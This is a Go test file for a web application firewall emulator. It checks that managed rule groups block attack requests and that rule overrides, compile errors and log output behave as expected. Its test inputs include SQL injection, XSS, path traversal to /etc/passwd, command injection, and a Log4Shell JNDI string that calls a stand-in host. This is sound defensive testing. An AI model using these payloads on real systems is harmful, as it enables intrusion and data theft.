package waf

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func browserGet(uri, query string, extra ...string) *Request {
	h := append([]string{"Host", "shop.example.com", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
		"Accept", "text/html,application/xhtml+xml", "Accept-Language", "en-GB,en;q=0.8"}, extra...)
	return get(uri, query, h...)
}

func managedACL(t testing.TB, vendor, group, extra, override string) *ACL {
	t.Helper()
	return mustCompile(t, aclJSON(`[`+managedRuleJSON("managed", 0, vendor, group, extra, override)+`]`), testResources())
}

func groupIDs(v Verdict) (term string, counted []string) {
	for _, g := range v.RuleGroupList {
		if g.TerminatingRule != nil {
			term = g.TerminatingRule.RuleID
		}
		for _, m := range g.NonTerminating {
			counted = append(counted, m.RuleID)
		}
	}
	return term, counted
}

func TestManagedGroups(t *testing.T) {
	sqliQuery := "id=1%27%20OR%20%271%27%3D%271%27--"
	cases := []struct {
		name, vendor, group string
		r                   *Request
		wantAction          string
		wantTerm            string // terminating CRS rule in the group
		wantLabel           string
	}{
		{"sqli query blocked", "AWS", "AWSManagedRulesSQLiRuleSet", browserGet("/products", sqliQuery), ActionBlock, "942100",
			"awswaf:managed:aws:sql-database:SQLi_QueryArguments"},
		{"sqli body blocked", "AWS", "AWSManagedRulesSQLiRuleSet", func() *Request {
			r := post("/login", "user=admin%27--&pw=x", "Host", "shop.example.com", "User-Agent", "Mozilla/5.0", "Accept", "*/*",
				"Content-Type", "application/x-www-form-urlencoded", "Content-Length", "20")
			return r
		}(), ActionBlock, "942100", "awswaf:managed:aws:sql-database:SQLi_Body"},
		{"sqli json body blocked", "AWS", "AWSManagedRulesSQLiRuleSet", post("/api", `{"q":"1' OR '1'='1'--"}`, "Host", "shop.example.com",
			"User-Agent", "Mozilla/5.0", "Accept", "*/*", "Content-Type", "application/json", "Content-Length", "23"), ActionBlock, "942100",
			"awswaf:managed:aws:sql-database:SQLi_Body"},
		{"sqli cookie blocked", "AWS", "AWSManagedRulesSQLiRuleSet", browserGet("/", "", "Cookie", "session=1' OR '1'='1'--"), ActionBlock, "942100",
			"awswaf:managed:aws:sql-database:SQLi_Cookie"},
		{"sqli group ignores xss", "AWS", "AWSManagedRulesSQLiRuleSet", browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), ActionAllow, "", ""},
		{"common xss blocked", "AWS", "AWSManagedRulesCommonRuleSet", browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), ActionBlock, "941100",
			"awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"},
		{"common lfi blocked", "AWS", "AWSManagedRulesCommonRuleSet", browserGet("/download", "file=../../../../etc/passwd"), ActionBlock, "930100",
			"awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"},
		{"common scanner blocked", "AWS", "AWSManagedRulesCommonRuleSet", get("/", "", "Host", "shop.example.com", "User-Agent", "sqlmap/1.7", "Accept", "*/*"),
			ActionBlock, "913100", "awswaf:managed:aws:core-rule-set:BadBots_Header"},
		{"known bad log4shell", "AWS", "AWSManagedRulesKnownBadInputsRuleSet", browserGet("/", "", "X-Api-Version", "${jndi:ldap://evil.example/a}"), ActionBlock, "944150",
			"awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"},
		{"known bad propfind", "AWS", "AWSManagedRulesKnownBadInputsRuleSet", func() *Request { r := browserGet("/", ""); r.Method = "PROPFIND"; return r }(),
			ActionBlock, "911100", "awswaf:managed:aws:known-bad-inputs:Propfind_Method"},
		{"known bad allows PUT", "AWS", "AWSManagedRulesKnownBadInputsRuleSet", func() *Request { r := browserGet("/", ""); r.Method = "PUT"; return r }(),
			ActionAllow, "", ""},
		{"owasp crs rce", "openfront", "OWASP-CRS", browserGet("/", "cmd=%3Bcat%20/etc/passwd"), ActionBlock, "930120", "awswaf:managed:openfront:owasp-crs:930120"},
		{"benign", "openfront", "OWASP-CRS", browserGet("/products/42", "page=2&sort=asc", "Cookie", "session=abc123; theme=dark"), ActionAllow, "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := managedACL(t, tc.vendor, tc.group, "", `{"None":{}}`)
			v := a.Evaluate(tc.r, t0)
			term, _ := groupIDs(v)
			if v.Action != tc.wantAction || term != tc.wantTerm {
				t.Fatalf("got %s (group rule %q, %+v), want %s (%q)", v.Action, term, v.RuleGroupList, tc.wantAction, tc.wantTerm)
			}
			if tc.wantAction == ActionBlock {
				if v.TerminatingRuleID != "managed" || v.TerminatingRuleType != TypeManaged {
					t.Errorf("got terminating %s/%s, want managed/%s", v.TerminatingRuleID, v.TerminatingRuleType, TypeManaged)
				}
				if v.RuleGroupList[0].RuleGroupID != tc.vendor+"#"+tc.group {
					t.Errorf("got ruleGroupId %q, want %q", v.RuleGroupList[0].RuleGroupID, tc.vendor+"#"+tc.group)
				}
			}
			if tc.wantLabel != "" && !slices.Contains(v.Labels, tc.wantLabel) {
				t.Errorf("got labels %v, want %s", v.Labels, tc.wantLabel)
			}
		})
	}
}

func TestManagedOverrides(t *testing.T) {
	sqli := browserGet("/products", "id=1%27%20OR%20%271%27%3D%271%27--")
	cases := []struct {
		name, extra, override string
		r                     *Request
		wantAction            string
		wantNonTermCount      bool // the web ACL rule itself counted (OverrideAction Count)
	}{
		{"no override", "", `{"None":{}}`, sqli, ActionBlock, false},
		{"override action count", "", `{"Count":{}}`, sqli, ActionAllow, true},
		{"exclude every detecting rule by id", `,"ExcludedRules":[{"Name":"942100"}]`, `{"None":{}}`, browserGet("/p", "id=1%27%20OR%20%271%27%3D%271%27"), ActionAllow, false},
		{"count by aws name", `,"RuleActionOverrides":[{"Name":"SQLi_QUERYARGUMENTS","ActionToUse":{"Count":{}}}]`, `{"None":{}}`, browserGet("/p", "id=1%27%20OR%20%271%27%3D%271%27"), ActionAllow, false},
		{"aws name scoped to its location", `,"RuleActionOverrides":[{"Name":"SQLi_BODY","ActionToUse":{"Count":{}}}]`, `{"None":{}}`, browserGet("/p", "id=1%27%20OR%20%271%27%3D%271%27"), ActionBlock, false},
		{"excluded aws name counts", `,"ExcludedRules":[{"Name":"SQLi_QUERYARGUMENTS"}]`, `{"None":{}}`, browserGet("/p", "id=1%27%20OR%20%271%27%3D%271%27"), ActionAllow, false},
		{"count by crs id", `,"RuleActionOverrides":[{"Name":"942100","ActionToUse":{"Count":{}}}]`, `{"None":{}}`, browserGet("/p", "id=1%27%20OR%20%271%27%3D%271%27"), ActionAllow, false},
		{"block override is a no-op", `,"RuleActionOverrides":[{"Name":"942100","ActionToUse":{"Block":{}}}]`, `{"None":{}}`, sqli, ActionBlock, false},
		{"scope-down not matching skips the group", `,"ScopeDownStatement":` + byteMatch("/api/", `{"UriPath":{}}`, "STARTS_WITH"), `{"None":{}}`, sqli, ActionAllow, false},
		{"scope-down matching inspects", `,"ScopeDownStatement":` + byteMatch("/products", `{"UriPath":{}}`, "STARTS_WITH"), `{"None":{}}`, sqli, ActionBlock, false},
		{"version and configs ignored", `,"Version":"Version_2.0","ManagedRuleGroupConfigs":[{"LoginPath":"/login"}]`, `{"None":{}}`, sqli, ActionBlock, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := managedACL(t, "AWS", "AWSManagedRulesSQLiRuleSet", tc.extra, tc.override)
			v := a.Evaluate(tc.r, t0)
			if v.Action != tc.wantAction {
				t.Fatalf("got %s (%+v), want %s", v.Action, v.RuleGroupList, tc.wantAction)
			}
			gotCount := len(v.NonTerminating) == 1 && v.NonTerminating[0].RuleID == "managed" && v.NonTerminating[0].OverriddenAction == ActionBlock
			if gotCount != tc.wantNonTermCount {
				t.Errorf("got non-terminating %+v, want the rule counted: %v", v.NonTerminating, tc.wantNonTermCount)
			}
			if strings.Contains(tc.name, "count by") {
				_, counted := groupIDs(v)
				if len(counted) == 0 || v.RuleGroupList[0].NonTerminating[0].OverriddenAction != ActionBlock {
					t.Errorf("got %+v, want the counted rules reported with overriddenAction BLOCK", v.RuleGroupList)
				}
				if !slices.Contains(v.Labels, "awswaf:managed:aws:sql-database:SQLi_QueryArguments") {
					t.Errorf("got labels %v, want the counted rule's label", v.Labels)
				}
			}
		})
	}
}

func TestManagedCompileErrors(t *testing.T) {
	cases := []struct {
		name, vendor, group, extra string
		want                       string
	}{
		{"unsupported aws group", "AWS", "AWSManagedRulesLinuxRuleSet", "", "managed rule group AWS/AWSManagedRulesLinuxRuleSet is not supported by this edge"},
		{"unknown vendor", "Fortinet", "OWASP", "", "managed rule group Fortinet/OWASP is not supported"},
		{"unknown aws name", "AWS", "AWSManagedRulesSQLiRuleSet", `,"ExcludedRules":[{"Name":"SQLi_HEADERS"}]`,
			`ExcludedRules[0].Name: managed rule group AWSManagedRulesSQLiRuleSet has no rule "SQLi_HEADERS"`},
		{"crs id outside the group", "AWS", "AWSManagedRulesSQLiRuleSet", `,"RuleActionOverrides":[{"Name":"941100","ActionToUse":{"Count":{}}}]`,
			`RuleActionOverrides[0].Name: managed rule group AWSManagedRulesSQLiRuleSet has no CRS rule "941100"`},
		{"allow override refused", "AWS", "AWSManagedRulesSQLiRuleSet", `,"RuleActionOverrides":[{"Name":"942100","ActionToUse":{"Allow":{}}}]`,
			"RuleActionOverrides[0].ActionToUse: only Count or Block is supported"},
		{"bad scope-down", "AWS", "AWSManagedRulesSQLiRuleSet", `,"ScopeDownStatement":{}`, "ManagedRuleGroupStatement.ScopeDownStatement: exactly one statement is required"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Compile(decodeACL(t, aclJSON(`[`+managedRuleJSON("m", 0, tc.vendor, tc.group, tc.extra, `{"None":{}}`)+`]`)), Resources{})
			if err == nil || !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want an ErrInvalid containing %q", err, tc.want)
			}
		})
	}
}

func TestManagedMapping(t *testing.T) {
	g := findCRSGroup("AWS", "AWSManagedRulesSQLiRuleSet")
	cases := []struct {
		id    int
		where loc
		want  string
	}{
		{942100, locQuery, "SQLi_QUERYARGUMENTS"},
		{942100, locCookie, "SQLi_COOKIE"},
		{942100, locURIPath, "SQLi_URIPATH"},
		{942140, locQuery, "SQLiExtendedPatterns_QUERYARGUMENTS"},
		{942140, locBody, "SQLiExtendedPatterns_BODY"},
		{942140, locCookie, ""}, // AWS has no extended-patterns rule for cookies
	}
	for _, tc := range cases {
		got := ""
		if r := g.awsName(tc.id, tc.where); r != nil {
			got = r.name
		}
		if got != tc.want {
			t.Errorf("%d at %b: got %q, want %q", tc.id, tc.where, got, tc.want)
		}
	}
	// Every group's mapping names only rules the group runs.
	for _, g := range crsGroups {
		ids := g.detecting()
		for _, r := range g.names {
			for _, id := range r.ids {
				if id >= 1000 && !ids[id] {
					t.Errorf("%s: %s maps to CRS rule %d, which the group does not run", g.name, r.name, id)
				}
			}
		}
	}
	if a := locOf(0, "", nil); a != locOther {
		t.Errorf("got %v for an unknown variable, want locOther", a)
	}
}

func TestManagedLogRecordGolden(t *testing.T) {
	a := managedACL(t, "AWS", "AWSManagedRulesSQLiRuleSet", `,"RuleActionOverrides":[{"Name":"942140","ActionToUse":{"Count":{}}}]`, `{"None":{}}`)
	r := browserGet("/products", "id=1%20union%20select%20name%20from%20information_schema.tables--")
	r.RequestID = "Ed0AiHF_CGYF-DA=="
	v := a.Evaluate(r, t0)
	got := a.LogRecord(r, v, t0, a.ARN(), "E2EXAMPLE")
	var indented bytes.Buffer
	if err := json.Indent(&indented, got, "", "  "); err != nil {
		t.Fatalf("log record is not JSON: %v", err)
	}
	indented.WriteByte('\n')
	path := filepath.Join("testdata", "log_block_managed_sqli.json")
	if *update {
		if err := os.WriteFile(path, indented.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if !bytes.Equal(indented.Bytes(), want) {
		t.Errorf("got %s, want %s", indented.Bytes(), want)
	}
}

// The same configuration compiles to the same cached engine: a reload pays
// the CRS load once per process.
func TestManagedWAFCached(t *testing.T) {
	a := managedACL(t, "AWS", "AWSManagedRulesSQLiRuleSet", "", `{"None":{}}`)
	b := managedACL(t, "AWS", "AWSManagedRulesSQLiRuleSet", "", `{"None":{}}`)
	c := managedACL(t, "AWS", "AWSManagedRulesSQLiRuleSet", `,"ExcludedRules":[{"Name":"942100"}]`, `{"None":{}}`)
	if a.rules[0].managed.waf != b.rules[0].managed.waf {
		t.Error("got two engines for one configuration, want one")
	}
	if a.rules[0].managed.waf == c.rules[0].managed.waf {
		t.Error("got one engine for two configurations, want two")
	}
}
